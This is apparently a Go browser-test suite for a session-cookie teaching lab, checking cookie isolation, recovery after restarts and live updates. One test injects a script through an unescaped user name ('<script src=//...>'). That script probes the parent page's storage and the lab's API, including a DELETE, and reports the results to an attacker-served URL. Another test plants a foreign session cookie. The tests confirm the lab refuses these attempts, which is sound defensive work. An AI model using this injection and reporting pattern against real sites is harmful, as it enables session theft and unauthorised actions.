package student

import (
	"net"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"sessionlab/test/browser"
	"sessionlab/test/lab"
)

// TestOneCookie: the demo's requests carry one cookie, its own, whatever pages
// of the lab were visited before.
func TestOneCookie(t *testing.T) {
	l := lab.Start(t)
	b := browser.New(t, "ko")
	for _, path := range []string{"/", "/?lang=en", "/nope"} {
		b.Open(l.URL + path)
	}
	for _, path := range []string{"/lessons/session?lang=en", "/lessons/session"} {
		b.Open(l.URL + path)
		b.AwaitRow()
		// A request that uses the row again shows that the browser has the cookie.
		before := b.Text(".st tr.is-mine .n")
		b.PressReload("a")
		b.Wait("the reload", "Number(document.querySelector('.st tr.is-mine .n').textContent) > %s", before)
	}
	b.Login("kim")
	b.Passed("login")
	requests := b.Seen(l.Demo + "/s/")
	first := true
	for _, r := range requests {
		cookie := r.Headers["cookie"]
		if first && cookie != "" {
			t.Errorf("the first request carries %q", cookie)
		}
		if !first && (!strings.HasPrefix(cookie, "sessionid=") || strings.Contains(cookie, ";")) {
			t.Errorf("%s %s carries %q", r.Method, r.URL, cookie)
		}
		first = false
	}
	if len(requests) < 4 {
		t.Errorf("only %d requests to the demo", len(requests))
	}
	for _, r := range b.Seen(l.URL) {
		if r.Headers["cookie"] != "" {
			t.Errorf("%s carries %q", r.URL, r.Headers["cookie"])
		}
	}
}

// TestJars: a foreign sessionid at / and the walk-in's cookie merge no jars. Two
// desks and the walk-in keep three rows.
func TestJars(t *testing.T) {
	for _, foreign := range []string{"sessionid=django; Path=/", "theirs=sessionid=django; Path=/"} {
		t.Run(foreign, func(t *testing.T) {
			l := lab.Start(t)
			_, port, _ := net.SplitHostPort(lab.ServeText(t, "text/plain", foreign, ""))

			b := browser.New(t, "ko")
			b.Open("http://localhost:" + port + "/")
			b.Open(l.Demo + "/")
			b.Fill("input[name=username]", "walkin")
			b.Click("input[type=submit]")
			b.Wait("the walk-in's welcome", "document.querySelector('h1')")

			b.Open(l.URL + "/lessons/session")
			b.AwaitRow()
			b.Login("first")
			b.Passed("login")
			if note := b.Text(".wire .req"); !strings.Contains(note, "sessionid=django") || b.Text(".wire .req .about") == "" {
				t.Errorf("the panel does not tell of the foreign pair: %s", note)
			}
			b.PressJar("a")
			b.Wait("the jar to tell of it", "[...document.querySelectorAll('#jar-a li .note')].some(e => e.textContent.includes('같은 호스트의 다른 프로그램'))")
			browser.Eval[any](b, "localStorage.clear()")
			b.Open(l.URL + "/lessons/session")
			b.Wait("the second desk's row", "document.querySelector('.st tbody tr.is-mine .name.none')")
			b.Login("second")
			b.Passed("login")
			b.Open(l.Demo + "/")
			if page := b.Text("h1"); page != "Welcome, walkin!" {
				t.Errorf("the walk-in is greeted with %q", page)
			}
			_, body := l.Call(t, "GET", "/api/rooms/main/sessions", "", "")
			names := map[string]bool{}
			for _, row := range lab.Decode[lab.TableView](t, body).Sessions {
				if row.Username != nil {
					names[*row.Username] = true
				}
			}
			if len(names) != 3 || !names["walkin"] || !names["first"] || !names["second"] {
				t.Errorf("the rows are %s", body)
			}
		})
	}
}

// TestInjectedScript: a script in the demo, let in by the unescaped name, reads
// no storage of the lab's and calls its API with nobody's rights.
func TestInjectedScript(t *testing.T) {
	l := lab.Start(t)
	b := browser.New(t, "ko")
	b.Open(l.URL + "/lessons/session")
	b.AwaitRow()
	attack := `(async () => {
		const got = [];
		const attempt = async (what, f) => { try { got.push(what + '=' + await f()); } catch (e) { got.push(what + '!' + e.name); } };
		await attempt('parent-storage', () => Object.keys(parent.localStorage).length);
		await attempt('parent-document', () => parent.document.title);
		await attempt('own-storage', () => Object.keys(localStorage).filter(k => k.startsWith('lab')).length);
		const lab = '` + l.URL + `';
		await attempt('read', async () => (await fetch(lab + '/api/rooms/main/sessions')).status);
		await attempt('read-with-credentials', async () => (await fetch(lab + '/api/rooms/main/sessions', {credentials: 'include'})).status);
		await attempt('blind-read', async () => (await fetch(lab + '/api/rooms/main/sessions', {mode: 'no-cors'})).status);
		await attempt('delete', async () => (await fetch(lab + '/api/rooms/main/sessions/x', {method: 'DELETE'})).status);
		await attempt('seat', async () => (await fetch(lab + '/api/seats', {method: 'POST', mode: 'no-cors', body: '{}'})).type);
		await attempt('stream', async () => (await fetch(lab + '/api/rooms/main/events', {mode: 'no-cors'})).type);
		await fetch('report?' + encodeURIComponent(got.join(' ')));
	})()`
	// A name has 64 characters at most, so the script itself is the attacker's.
	attacker := lab.ServeText(t, "text/javascript", "", attack)
	b.Login("<script src=//" + attacker + "></script>")
	events := l.Stream(t, "", "")
	m := events.Until(func(m lab.Message) bool { return strings.Contains(m.Data, "/report?") })
	_, report, _ := strings.Cut(m.Data, "/report?")
	report, _, _ = strings.Cut(report, `"`)
	for _, want := range []string{"parent-storage!SecurityError", "parent-document!SecurityError", "own-storage%3D0", "read!TypeError",
		"read-with-credentials!TypeError", "blind-read!TypeError", "delete!TypeError", "seat!TypeError", "stream!TypeError"} {
		if !strings.Contains(report, want) {
			t.Errorf("%s is missing in the report %s", want, report)
		}
	}
	// Whatever it could not read, the lab refused.
	refusals := map[string]int64{}
	b.Until("five refusals", func() bool {
		for _, r := range b.Sent {
			if !strings.HasPrefix(r.URL, l.URL+"/api/") || r.Headers["sec-fetch-site"] != "same-site" {
				continue
			}
			for _, a := range b.Answers {
				if a.ID == r.ID {
					refusals[string(r.ID)+" "+r.Method+" "+r.URL] = a.Status
				}
			}
		}
		return len(refusals) >= 5
	})
	for what, status := range refusals {
		if status != 401 && status != 403 && !strings.Contains(what, " OPTIONS ") {
			t.Errorf("%s by the script: %d", what, status)
		}
	}
}

// TestRestartInTheBrowser: an open page comes back by itself after a restart,
// with its ticks, and says why the table is empty.
func TestRestartInTheBrowser(t *testing.T) {
	dir := t.TempDir()
	l := lab.Start(t, "-data", dir)
	b := browser.New(t, "ko")
	b.Open(l.URL + "/lessons/session")
	b.AwaitRow()
	b.Login("kim")
	b.Passed("login")
	token := browser.Eval[string](b, "localStorage.getItem('lab.seat.main')")
	if err := l.Stop(); err != nil {
		t.Fatal(err)
	}
	b.Wait("the loss", "document.querySelector('.link[data-state=lost]')")
	lab.Start(t, "-data", dir, "-addr", "localhost:"+lab.PortIn(l.URL), "-demo-addr", "localhost:"+lab.PortIn(l.Demo))
	b.AwaitLink()
	b.Wait("the reason", "document.querySelector('.st tfoot').textContent.includes('다시 시작')")
	b.Passed("login")
	b.PressReload("a")
	b.Wait("the row under the old cookie", "document.querySelector('.st tbody tr.is-mine .name.none')")
	if browser.Eval[string](b, "localStorage.getItem('lab.seat.main')") != token {
		t.Error("the page took another seat")
	}
	b.Login("kim")
	b.Wait("the welcome", "document.querySelector('.st tr.is-mine .name').textContent === 'kim'")
}

// TestOneFrame: a row is there in the frame after its event's bytes came.
func TestOneFrame(t *testing.T) {
	l := lab.Start(t)
	b := browser.New(t, "ko")
	b.Open(l.URL + "/lessons/session")
	b.AwaitReady()
	// The page decodes what comes in; the frame that is asked for there and then
	// is the one that has to show it.
	browser.Eval[any](b, `(() => {
		const decode = TextDecoder.prototype.decode;
		TextDecoder.prototype.decode = function (...args) {
			const text = decode.apply(this, args);
			if (text.includes('"new":true')) {
				requestAnimationFrame(() => queueMicrotask(() => setTimeout(() => {
					document.documentElement.dataset.rows = document.querySelectorAll('.st tbody tr[data-tag]').length;
				})));
			}
			return text;
		};
	})()`)
	other := l.Seat(t)
	lab.NewClient().Visit(t, other.Demo)
	b.Wait("the frame", "document.documentElement.dataset.rows")
	if rows := browser.Eval[string](b, "document.documentElement.dataset.rows"); rows != "2" {
		t.Errorf("%s rows in the frame after the event, want 2", rows)
	}
}

// TestHeals: a lost connection is shown, and comes back by itself.
func TestHeals(t *testing.T) {
	l := lab.Start(t)
	tap := lab.NewByteTap(t, l.URL)
	b := browser.New(t, "ko", chromedp.Flag("host-resolver-rules", "MAP "+lab.HostOf(l.URL)+" "+tap.Addr))
	b.Open(l.URL + "/lessons/session")
	b.AwaitLink()
	tap.Cut(true)
	b.Wait("the loss to be shown", "document.querySelector('.link[data-state=lost]')")
	other := l.Seat(t)
	lab.NewClient().Visit(t, other.Demo)
	tap.Cut(false)
	b.AwaitLink()
	b.Wait("the row that came meanwhile", "document.querySelectorAll('.st tbody tr[data-tag]').length === 2")
}
